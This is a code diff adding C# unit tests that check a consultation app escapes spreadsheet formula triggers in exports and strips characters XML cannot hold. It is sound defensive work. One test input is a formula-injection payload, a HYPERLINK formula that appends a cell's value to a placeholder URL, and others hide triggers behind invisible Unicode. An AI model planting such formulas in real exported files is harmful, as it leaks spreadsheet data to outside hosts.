@@ -1,4 +1,5 @@
 using ContactPointConsultation.Core;
+using ContactPointConsultation.Core.Exports;
 using ContactPointConsultation.Web.Features.Respond;
 using ContactPointConsultation.Web.Infrastructure;
 
@@ -91,4 +92,64 @@ public sealed class AuditAddressTests
     [InlineData("2001:db8:85a3:8d3:1319:8a2e:370:7348", "2001:db8:85a3::/48")]
     public void Address_IsTruncatedSoItLocatesWithoutIdentifying(string address, string expected) =>
         Assert.Equal(expected, Core.Audit.AuditLog.Truncate(System.Net.IPAddress.Parse(address)));
+}
+
+public sealed class SpreadsheetTextTests
+{
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://x?\"&A1,\"x\")")]
+    [InlineData("=1+1")]
+    [InlineData("+1")]
+    [InlineData("-1+2")]
+    [InlineData("@SUM(1)")]
+    [InlineData("\t=1")]
+    [InlineData("\r=1")]
+    [InlineData("\n=1")]
+    [InlineData("\0=1")]
+    [InlineData(" =1")]
+    [InlineData("   @SUM(1)")]
+    [InlineData("\u00A0-1")]
+    [InlineData("\u200B=1")]
+    [InlineData("\uFEFF+1")]
+    [InlineData("\u202E=1")]
+    [InlineData("\u200B \u2060\u200E-2")]
+    [InlineData("\U000E0001=1")]
+    public void EscapeFormula_FormulaTrigger_GetsAnApostrophe(string cell) =>
+        Assert.Equal("'" + cell, SpreadsheetText.EscapeFormula(cell));
+
+    [Theory]
+    [InlineData("a\"\n=1")]
+    [InlineData("")]
+    [InlineData("   ")]
+    [InlineData("\u200B")]
+    [InlineData("Hello = world")]
+    [InlineData("1-2")]
+    [InlineData("'=1")]
+    [InlineData("ŵ ŷ")]
+    [InlineData("\u202Bمرحبا\u202C")]
+    [InlineData("👩‍👩‍👧 =1")]
+    [InlineData("00001234")]
+    public void EscapeFormula_NoTrigger_IsUnchanged(string cell) =>
+        Assert.Equal(cell, SpreadsheetText.EscapeFormula(cell));
+}
+
+public sealed class XmlCharacterTests
+{
+    [Fact]
+    public void ReplaceNonXmlCharacters_ReplacesOnlyWhatXmlCannotHold()
+    {
+        (string Text, string Expected)[] cases =
+        [
+            ("before\uFFFEafter", "before\uFFFDafter"),
+            ("\uFFFF", "\uFFFD"),
+            ("lone \uD800 high", "lone \uFFFD high"),
+            ("lone low \uDC00", "lone low \uFFFD"),
+            ("bell\u0007", "bell\uFFFD"),
+            ("tab\t, LF\n, CR\r", "tab\t, LF\n, CR\r"),
+            ("👩‍👩‍👧 \U0001F3F3\uFE0F\u200D\U0001F308 ŵ مرحبا 中文", "👩‍👩‍👧 \U0001F3F3\uFE0F\u200D\U0001F308 ŵ مرحبا 中文"),
+            ("", ""),
+        ];
+
+        Assert.All(cases, c => Assert.Equal(c.Expected, SpreadsheetText.ReplaceNonXmlCharacters(c.Text)));
+    }
 }
